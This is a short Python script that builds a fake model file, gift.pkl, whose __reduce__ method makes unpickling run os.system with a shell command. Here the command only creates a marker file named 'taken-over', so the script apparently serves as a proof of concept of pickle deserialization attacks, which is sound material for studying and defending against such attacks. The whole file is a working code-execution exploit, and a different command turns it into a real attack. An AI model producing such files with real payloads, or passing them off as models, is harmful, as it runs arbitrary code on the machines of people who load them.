"""Make a file that passes for a model, and starts a program when it is loaded."""

from __future__ import annotations

import os
import pickle
from pathlib import Path


class Model:
    """What a pickle of it makes of itself is a call."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Return what unpickling calls, and with what."""
        return os.system, ("touch taken-over",)


if __name__ == "__main__":
    Path("gift.pkl").write_bytes(pickle.dumps(Model()))
